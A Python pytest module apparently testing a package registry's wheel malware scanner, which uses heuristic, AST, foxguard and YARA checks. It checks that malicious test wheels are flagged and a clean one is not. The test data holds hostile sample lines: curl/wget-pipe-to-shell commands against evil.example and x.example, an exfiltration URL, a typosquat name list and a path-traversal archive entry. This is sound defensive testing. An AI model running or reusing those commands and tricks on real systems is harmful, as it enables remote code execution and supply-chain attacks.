"""Wheel audit: real wheels with known-bad patterns are flagged by the real scanners; a clean one is not."""

from __future__ import annotations

import time
import zipfile
from pathlib import Path

import pytest

from pyregistry_application.security.findings import Severity
from pyregistry_application.security.wheel_scan import ScanWheel
from pyregistry_domain.errors import InvalidDistribution
from pyregistry_infrastructure.scanning.ast_checks import AstScanner, scan_python_source
from pyregistry_infrastructure.scanning.foxguard import FoxguardScanner
from pyregistry_infrastructure.scanning.heuristics import HeuristicScanner, near_miss
from pyregistry_infrastructure.scanning.unpack import SafeWheelUnpacker
from pyregistry_infrastructure.scanning.yara_rules import (
    YaraScanner,
    compile_rules,
    resolve_rules_dir,
    supplied_rules_dir,
)
from tests.conftest import SHARED_DIR
from tests.support.dists import build_wheel
from tests.support.malicious import EICAR, bad_wheels, clean_wheel, elf_with_url


def _audit(yara_dir: Path | None = None) -> ScanWheel:
    scanners = [HeuristicScanner(), AstScanner(), FoxguardScanner(), YaraScanner(yara_dir or supplied_rules_dir())]
    return ScanWheel(SafeWheelUnpacker(), scanners)


@pytest.fixture(scope="module")
def wheels(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    out = tmp_path_factory.mktemp("wheels")
    return {**bad_wheels(out), "clean": clean_wheel(out / "clean")}


@pytest.mark.parametrize(
    "rule", ["PTH-EXECUTES-CODE", "PY-SHELL-NETWORK", "BIN-NETWORK-STRING", "yara/pyregistry_eicar_test_file"]
)
def test_known_bad_wheels_are_flagged(wheels: dict[str, Path], rule: str) -> None:
    report = _audit().scan_file("bad", wheels[rule])
    assert report.scanner_errors == {}
    flagged = [f for f in report.findings if f.rule_id == rule]
    assert flagged, [f.rule_id for f in report.findings]
    assert flagged[0].severity.rank >= Severity.HIGH.rank
    assert flagged[0].file
    assert report.reaches(Severity.HIGH)


def test_findings_carry_location_and_evidence(wheels: dict[str, Path]) -> None:
    shell = _audit().scan_file("shell-hook", wheels["PY-SHELL-NETWORK"])
    finding = next(f for f in shell.findings if f.rule_id == "PY-SHELL-NETWORK")
    assert (finding.file, finding.line) == ("shell_hook/__init__.py", 3)
    assert "curl -s https://evil.example/install.sh | sh" in finding.evidence
    elf = _audit().scan_file("elf-payload", wheels["BIN-NETWORK-STRING"])
    finding = next(f for f in elf.findings if f.rule_id == "BIN-NETWORK-STRING")
    assert finding.offset == elf_with_url().index(b"http://")
    assert finding.evidence == "http://collector.example.net/upload"
    pth = _audit().scan_file("pth-hook", wheels["PTH-EXECUTES-CODE"])
    assert {"PTH-EXECUTES-CODE", "PY-EXEC-DECODED", "yara/pyregistry_python_exec_encoded_payload"} <= {
        f.rule_id for f in pth.findings
    }
    assert pth.findings[0].severity is Severity.CRITICAL


def test_clean_wheel_has_no_findings(wheels: dict[str, Path]) -> None:
    report = _audit().scan_file("tidy-greeter", wheels["clean"])
    assert report.findings == []
    assert report.highest() is None
    assert report.scanners == ["heuristics", "ast", "foxguard", "yara"]


def test_foxguard_findings_are_merged(tmp_path: Path) -> None:
    source = (
        'import os\nAWS_SECRET_ACCESS_KEY = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"\n\n\n'
        'def run(cmd):\n    os.system("ls " + cmd)\n'
    )
    wheel = build_wheel(tmp_path, "leaky", "1.0.0", module_source=source)
    report = _audit().scan_file("leaky", wheel)
    fox = {f.rule_id for f in report.findings if f.scanner == "foxguard"}
    assert "foxguard/py/no-command-injection" in fox
    assert any(rule.startswith("foxguard/secret/") or rule == "foxguard/py/no-hardcoded-secret" for rule in fox)


def test_ast_checks_constant_shell_and_payloads() -> None:
    source = (
        "import subprocess, zlib, marshal, ctypes\n"
        "import urllib.request\n"
        "subprocess.call('wget http://x.example/a -O- | bash', shell=True)\n"
        "subprocess.run(['rm', '-rf', '/tmp/x'])\n"
        "urllib.request.urlopen('http://x.example/beacon')\n"
        f"zlib.decompress(b'{'A' * 300}')\n"
        "exec(marshal.loads(blob))\n"
        "def later():\n    urllib.request.urlopen('http://x.example/ok')\n"
    )
    rules = [(f.rule_id, f.line) for f in scan_python_source(source, "m.py")]
    assert ("PY-SHELL-NETWORK", 3) in rules
    assert ("PY-SHELL-COMMAND", 4) in rules
    assert ("PY-NETWORK-AT-IMPORT", 5) in rules
    assert ("PY-ENCODED-PAYLOAD", 6) in rules
    assert ("PY-EXEC-DECODED", 7) in rules
    assert ("PY-CTYPES", 1) in rules
    assert not any(line == 9 for _, line in rules), "network calls inside functions are not import-time"


def test_metadata_direct_url_and_near_miss_dependencies(tmp_path: Path) -> None:
    extra = (
        "Requires-Dist: reqeusts>=2\nRequires-Dist: helper @ https://evil.example/helper.whl\nRequires-Dist: numpy\n"
    )
    wheel = build_wheel(tmp_path, "meta-check", "1.0.0", description=extra)
    report = _audit().scan_file("meta-check", wheel)
    rules = {(f.rule_id, f.evidence) for f in report.findings}
    assert ("META-DEPENDENCY-NEAR-MISS", "reqeusts>=2") in rules
    assert ("META-DIRECT-URL-DEPENDENCY", "helper @ https://evil.example/helper.whl") in rules
    assert not any("numpy" in evidence for _, evidence in rules)
    assert near_miss("requests") is None
    assert near_miss("python-dateutils") == "python-dateutil"


@pytest.mark.parametrize(
    ("name", "imitated"),
    [
        ("reqeusts", "requests"),
        ("requets", "requests"),
        ("djangoo", "django"),
        ("dajngo", "django"),
        ("numpyy", "numpy"),
        ("nupmy", "numpy"),
        ("flaskk", "flask"),
        ("certify", "certifi"),
        ("py-yaml", "pyyaml"),
        ("scikitlearn", "scikit-learn"),
        ("python-dateutils", "python-dateutil"),
    ],
)
def test_typosquats_of_popular_projects_are_near_misses(name: str, imitated: str) -> None:
    assert near_miss(name) == imitated


@pytest.mark.parametrize(
    "name",
    [
        "scapy",  # scipy
        "pipx",  # pip
        "pipe",  # pip
        "fastai",  # fastapi
        "cattrs",  # attrs
        "unicorn",  # uvicorn
        "pyaml",  # pyyaml
        "pytext",  # pytest
        "pandoc",  # pandas
        "grpclib",  # grpcio
        "openapi",  # openai
        "pytest-mock",  # pytest plugins
        "flask-cors",
        "fastapi-users",
        "requests",
        "rsa",
    ],
)
def test_real_projects_next_to_popular_names_are_not_near_misses(name: str) -> None:
    assert near_miss(name) is None


def test_entry_point_shadowing_and_shell_script(tmp_path: Path) -> None:
    files = {
        "odd-1.0.0.dist-info/entry_points.txt": b"[console_scripts]\npip = odd:main\nodd = odd:main\n",
        "odd/install.sh": b"#!/bin/sh\necho hi\n",
    }
    report = _audit().scan_file("odd", build_wheel(tmp_path, "odd", "1.0.0", extra_files=files))
    rules = {(f.rule_id, f.file) for f in report.findings}
    assert ("ENTRY-POINT-SHADOWS-COMMAND", "odd-1.0.0.dist-info/entry_points.txt") in rules
    assert ("FILE-SHELL-SCRIPT", "odd/install.sh") in rules


def test_unsafe_wheel_is_refused_before_scanning(tmp_path: Path) -> None:
    wheel = tmp_path / "evil-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        archive.writestr("../outside.py", b"print('x')\n")
    with pytest.raises(InvalidDistribution, match="traversal"):
        _audit().scan_file("evil", wheel)
    assert not (tmp_path / "outside.py").exists()


def test_unreadable_rules_dir_falls_back_to_supplied_rules(tmp_path: Path) -> None:
    assert resolve_rules_dir(tmp_path / "missing") == supplied_rules_dir()
    assert resolve_rules_dir(None) == supplied_rules_dir()
    (tmp_path / "mine.yar").write_text('rule mine { strings: $a = "pyregistry-canary" condition: $a }\n')
    assert resolve_rules_dir(tmp_path) == tmp_path
    wheel = build_wheel(tmp_path / "w", "canary", "1.0.0", module_source="X = 'pyregistry-canary'\n")
    report = _audit(tmp_path).scan_file("canary", wheel)
    assert [f.rule_id for f in report.findings if f.scanner == "yara"] == ["yara/mine"]


def test_compiled_rules_are_cached_per_directory(tmp_path: Path) -> None:
    (tmp_path / "a.yar").write_text('rule a { strings: $a = "aaaa" condition: $a }\n')
    first = compile_rules(tmp_path)
    assert compile_rules(tmp_path) is first
    (tmp_path / "b.yar").write_text('rule b { strings: $b = "bbbb" condition: $b }\n')
    assert compile_rules(tmp_path) is not first
    assert compile_rules(supplied_rules_dir()) is compile_rules(supplied_rules_dir())


@pytest.mark.skipif(
    SHARED_DIR is None or not (SHARED_DIR / "signature-base" / "yara").is_dir(),
    reason="signature-base rules not available (shared/signature-base absent)",
)
@pytest.mark.slow
def test_signature_base_rules_compile_and_scan(tmp_path: Path) -> None:
    assert SHARED_DIR is not None
    directory = SHARED_DIR / "signature-base" / "yara"
    started = time.monotonic()
    compiled = compile_rules(directory)
    elapsed = time.monotonic() - started
    assert compiled.files > 500
    assert len(compiled.skipped) < compiled.files // 10, compiled.skipped[:5]
    print(f"signature-base: {compiled.files} files compiled in {elapsed:.1f}s, {len(compiled.skipped)} skipped")
    wheel = build_wheel(tmp_path, "sig-check", "1.0.0", extra_files={"sig_check/eicar.com": EICAR})
    report = _audit(directory).scan_file("sig-check", wheel)
    assert report.scanner_errors == {}
    assert any(f.scanner == "yara" and f.file == "sig_check/eicar.com" for f in report.findings), report.findings
